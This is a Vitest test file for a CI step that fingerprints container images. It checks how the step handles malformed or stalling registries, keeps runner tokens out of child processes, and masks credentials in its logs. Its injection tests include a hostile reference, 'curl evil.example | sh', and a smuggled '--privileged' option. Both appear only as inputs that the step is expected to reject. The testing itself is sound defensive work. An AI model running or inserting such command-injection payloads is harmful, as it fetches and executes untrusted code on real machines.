// Fingerprints of images through the bundle: invalid and endless responses of registries, the environment of child
// processes, and the redaction of credentials.
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import {
  startRegistry,
  manifestBody,
  manifestType,
  type RegistryBehaviour,
} from "../artifacts/images/fake-registry.ts";
import { newFolder, runStep, type Inputs, type Step, type StepOptions } from "./step.ts";

const digest = "d".repeat(64);
const user = { name: "ada", password: "s3cr3t+pass/word" };
const inBase64 = Buffer.from(`${user.name}:${user.password}`).toString("base64");

/** Fingerprints an image of a registry. */
const fingerprint = (host: string, inputs: Inputs = {}, options: StepOptions = {}) =>
  runStep(
    { operation: "fingerprint", "artifact-type": "oci", artifacts: `${host}/acme/app:v1`, ...inputs },
    options,
  );

/** A HOME with docker's configuration, and a folder for programs in front of the PATH. */
function machine(configuration: object, programs: Readonly<Record<string, string>> = {}) {
  const home = newFolder();
  mkdirSync(join(home, ".docker"));
  writeFileSync(join(home, ".docker", "config.json"), JSON.stringify(configuration));
  mkdirSync(join(home, "bin"));
  for (const [name, script] of Object.entries(programs))
    writeFileSync(join(home, "bin", name), `#!/bin/sh\n${script}\n`, { mode: 0o755 });
  return { home, environment: { HOME: home, PATH: `${join(home, "bin")}:${process.env["PATH"] ?? ""}` } };
}

/** Everything that a step writes, without the commands that mask secrets in the log. */
const writtenBy = ({ log, summary, outputs, standardError }: Step) =>
  [log.replace(/^::add-mask::.*$/gm, ""), summary, JSON.stringify(outputs), standardError].join("\n");

const masksOf = ({ log }: Step) => [...log.matchAll(/^::add-mask::(.*)$/gm)].map(([, mask]) => mask);

describe("a registry", () => {
  test.each<[string, Record<string, string>]>([
    ["a login page", { "content-type": "text/html" }],
    [
      "a login page with a digest",
      { "content-type": "text/html", "docker-content-digest": `sha256:${digest}` },
    ],
    ["a login page that is called a manifest", { "content-type": manifestType }],
  ])("that answers with %s gives no fingerprint and no image", async (_, headers) => {
    await using registry = await startRegistry({
      instead: (_request, response) => {
        response.writeHead(200, headers).end("<html>Please log in</html>");
        return true;
      },
    });
    const step = await fingerprint(registry.host);
    expect(step.exitCode).toBe(1);
    expect(step.outputs).not.toHaveProperty("fingerprint");
    expect(step.outputs).not.toHaveProperty("image");
    expect(step.errors).toEqual([expect.stringMatching(/is not valid/)]);
  });

  test("that cannot be reached is not reported as a wrong configuration", async () => {
    const step = await fingerprint("127.0.0.1:1", { retries: "1" });
    expect(step.exitCode).toBe(1);
    expect(step.errors).toEqual([
      expect.stringMatching(
        /HEAD https:\/\/127\.0\.0\.1:1\/v2\/\S+ failed \(2 attempts in .*refused the connection \(ECONNREFUSED\).*the image's name/,
      ),
    ]);
    expect(step.log).toContain("::error title=No image digest from the registry");
    expect(step.log + step.summary).not.toMatch(/wrong configuration/i);
  });

  test("that sends its response byte by byte is aborted after `timeout`", async () => {
    await using registry = await startRegistry({
      instead: (request, response) => {
        response.writeHead(200, { "content-type": manifestType });
        if (request.method === "HEAD") return (response.end(), true);
        const timer = setInterval(() => response.write(" "), 100);
        response.on("close", () => {
          clearInterval(timer);
        });
        return true;
      },
    });
    const before = performance.now();
    const step = await fingerprint(registry.host, { timeout: "2s" });
    expect(performance.now() - before).toBeLessThan(20_000);
    expect(step).toMatchObject({ exitCode: 1, warnings: [] });
    expect(step.errors).toEqual([expect.stringMatching(/GET .* within the time limit of 2 s.*`timeout`/)]);
  });

  test("with a Retry-After longer than `timeout` ends the step at once", async () => {
    await using registry = await startRegistry({
      instead: (_request, response) => {
        response.writeHead(429, { "retry-after": "3600" }).end();
        return true;
      },
    });
    const step = await fingerprint(registry.host);
    expect(step.errors).toEqual([
      expect.stringMatching(/HTTP 429, 1 attempt.*after 3600 s, as the registry asks/),
    ]);
  });
});

describe("the output `image` of artifacts that another job fingerprinted", () => {
  const artifact = { filename: "app", type: "oci", fingerprint: digest };
  const fingerprintFromFile = (reference: string, type = "oci") => {
    const workspace = newFolder();
    const artifacts = [{ ...artifact, type, reference }];
    writeFileSync(join(workspace, "images.json"), JSON.stringify({ version: 1, artifacts }));
    return runStep({ operation: "fingerprint", "artifacts-from": "images.json" }, { workspace });
  };

  test("is the image by its digest", async () => {
    const { exitCode, outputs } = await fingerprintFromFile(`ghcr.io/acme/app@sha256:${digest}`);
    expect({ exitCode, image: outputs["image"] }).toEqual({
      exitCode: 0,
      image: `ghcr.io/acme/app@sha256:${digest}`,
    });
  });

  test.each([
    ["a command", `x; curl evil.example | sh #@sha256:${digest}`],
    ["an option", `--privileged ghcr.io/acme/app@sha256:${digest}`],
    ["two images", `ghcr.io/evil/app:v1 ghcr.io/acme/app@sha256:${digest}`],
    ["two lines", `ghcr.io/evil/app:v1\nghcr.io/acme/app@sha256:${digest}`],
    ["no image", `@sha256:${digest}`],
  ])("is never %s: such a reference is an error that names the file", async (_, reference) => {
    const step = await fingerprintFromFile(reference);
    expect(step.exitCode).toBe(1);
    expect(step.outputs).not.toHaveProperty("image");
    expect(step.errors).toEqual([expect.stringContaining("images.json")]);
  });

  test("is not set for a file: a reference of a file is an error", async () => {
    const step = await fingerprintFromFile(`ghcr.io/acme/app@sha256:${digest}`, "file");
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringContaining("images.json") as string] });
    expect(step.outputs).not.toHaveProperty("image");
  });
});

describe("a child process gets no inputs and no tokens of the runner:", () => {
  const secrets = {
    ACTIONS_RUNTIME_TOKEN: "canary-runtime",
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: "canary-oidc",
    GITHUB_TOKEN: "canary-github",
    GH_TOKEN: "canary-gh",
  };
  const inputs = { "api-token": "canary-api", "github-token": "canary-input" };
  /** Returns a script that writes its environment to a file. */
  const recordEnvironment = (then: string) => `env > "$HOME/seen"; ${then}`;
  const seenIn = (home: string) => readFileSync(join(home, "seen"), "utf8");

  test("docker", async () => {
    const httpResult = JSON.stringify([
      { Id: "sha256:1", RepoDigests: [`ghcr.io/acme/app@sha256:${digest}`] },
    ]);
    const { home, environment } = machine({}, { docker: recordEnvironment(`echo '${httpResult}'`) });
    const step = await fingerprint(
      "ghcr.io",
      { ...inputs, "artifact-type": "docker" },
      { environment: { ...environment, ...secrets, DOCKER_HOST: "unix:///engine" } },
    );
    expect(step).toMatchObject({ exitCode: 0, outputs: { fingerprint: digest } });
    expect(seenIn(home)).not.toMatch(/canary|^INPUT_|^ACTIONS_/m);
    expect(seenIn(home)).toMatch(/^DOCKER_HOST=unix:\/\/\/engine$/m);
  });

  test("a credential helper", async () => {
    const credential = JSON.stringify({ Username: user.name, Secret: user.password });
    const { home, environment } = machine(
      { credsStore: "test" },
      { "docker-credential-test": recordEnvironment(`cat > /dev/null; echo '${credential}'`) },
    );
    await using registry = await startRegistry({
      ...{ wants: "basic", user },
      manifests: { "acme/app/v1": { type: manifestType, body: manifestBody } },
    });
    const step = await fingerprint(registry.host, inputs, { environment: { ...environment, ...secrets } });
    expect(step.exitCode).toBe(0);
    expect(seenIn(home)).not.toMatch(/canary|^INPUT_|^ACTIONS_/m);
    expect(seenIn(home)).toMatch(/^PATH=/m);
  });

  test("git", async () => {
    const { home, environment } = machine({}, { git: recordEnvironment("exit 1") });
    const workspace = newFolder();
    mkdirSync(join(workspace, ".git"));
    await runStep(
      {
        ...inputs,
        ...{ operation: "begin-trail", "base-url": "http://127.0.0.1:9/api/v2", org: "acme", flow: "shop" },
        ...{ "dry-run": "true" },
      },
      { workspace, environment: { ...environment, ...secrets } },
    );
    expect(seenIn(home)).not.toMatch(/canary|^INPUT_|^ACTIONS_/m);
    expect(seenIn(home)).toMatch(/^HOME=/m);
  });
});

describe("a credential is masked, and not shown when a registry echoes it:", () => {
  const debugging = { RUNNER_DEBUG: "1" };

  /** Starts a registry that repeats the credential of a request in an error. */
  const startEchoRegistry = (wants: "basic" | "bearer", behaviour: RegistryBehaviour = {}) =>
    startRegistry({
      wants,
      ...behaviour,
      instead: (request, response) => {
        const { authorization } = request.headers;
        if (authorization === undefined || request.url?.startsWith("/token") === true) return false;
        const decoded = Buffer.from(authorization.replace(/^Basic /, ""), "base64").toString();
        const message = `refused ${authorization} ${decoded} ${decoded.slice(decoded.indexOf(":") + 1)}`;
        response.writeHead(request.method === "HEAD" ? 405 : 400);
        response.end(JSON.stringify({ errors: [{ code: "X", message }] }));
        return true;
      },
    });

  test.each<[string, (host: string) => object, Readonly<Record<string, string>>]>([
    ["a password of docker's configuration", (host) => ({ auths: { [host]: { auth: inBase64 } } }), {}],
    [
      "a password of a credential helper",
      () => ({ credsStore: "test" }),
      {
        "docker-credential-test": `cat > /dev/null; echo '${JSON.stringify({ Username: user.name, Secret: user.password })}'`,
      },
    ],
  ])("%s", async (_, configuration, programs) => {
    await using registry = await startEchoRegistry("basic");
    const { environment } = machine(configuration(registry.host), programs);
    const step = await fingerprint(registry.host, {}, { environment: { ...environment, ...debugging } });
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringMatching(/refused Basic \*\*\*/)] });
    expect(masksOf(step)).toEqual(expect.arrayContaining([user.password, inBase64]));
    expect(writtenBy(step)).not.toContain(user.password);
    expect(writtenBy(step)).not.toContain(inBase64);
  });

  test("a token of a token server", async () => {
    const token = "eyJ0b2tlbiI6ImNhbmFyeSJ9.c2lnbmF0dXJl";
    await using registry = await startEchoRegistry("bearer", {
      tokenAnswer: { status: 200, body: JSON.stringify({ token }) },
    });
    const step = await fingerprint(registry.host, {}, { environment: debugging });
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringMatching(/refused Bearer \*\*\*/)] });
    expect(masksOf(step)).toContain(token);
    expect(writtenBy(step)).not.toContain(token);
  });

  test("an identity token, as it is sent to a token server", async () => {
    const identityToken = "refresh/me +please=";
    let body = "";
    await using registry = await startRegistry({
      wants: "bearer",
      instead: (request, response) => {
        if (request.method === "POST") {
          request.on("data", (piece: Buffer) => {
            body += piece.toString();
          });
          request.on("end", () => response.end(JSON.stringify({ token: "t0k3n" })));
          return true;
        }
        if (request.headers.authorization === undefined) return false;
        response.writeHead(request.method === "HEAD" ? 405 : 400);
        response.end(JSON.stringify({ errors: [{ code: "X", message: `refused ${body}` }] }));
        return true;
      },
    });
    const { environment } = machine({ auths: { [registry.host]: { identitytoken: identityToken } } });
    const step = await fingerprint(registry.host, {}, { environment: { ...environment, ...debugging } });
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringContaining("refresh_token=***")] });
    expect(masksOf(step)).toContain(identityToken);
    expect(writtenBy(step)).not.toContain("refresh%2Fme");
  });

  test("a helper that prints a secret and fails", async () => {
    await using registry = await startRegistry({ wants: "basic", user });
    const print = `cat > /dev/null; echo '{"Secret":"${user.password}"'; echo 'bad ${user.password}' >&2; exit 1`;
    const { environment } = machine({ credsStore: "test" }, { "docker-credential-test": print });
    const step = await fingerprint(registry.host, {}, { environment: { ...environment, ...debugging } });
    expect(step).toMatchObject({
      exitCode: 1,
      errors: [expect.stringMatching(/docker-credential-test.*exit code 1/)],
    });
    expect(writtenBy(step)).not.toContain(user.password);
  });
});
